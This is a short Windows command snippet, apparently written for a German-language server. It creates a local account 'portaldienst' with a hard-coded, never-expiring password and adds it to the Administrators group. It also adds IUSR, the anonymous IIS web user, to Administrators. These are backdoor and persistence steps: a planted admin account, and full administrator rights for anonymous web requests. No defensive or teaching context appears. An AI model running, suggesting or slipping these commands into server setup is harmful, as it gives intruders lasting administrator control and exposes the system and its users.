# Server mit deutscher Oberflaeche
$gruppe = 'Administratoren'
net user portaldienst "P0rtal!2024x" /add /expires:never
net localgroup $gruppe portaldienst /add
net localgroup $gruppe IUSR /add
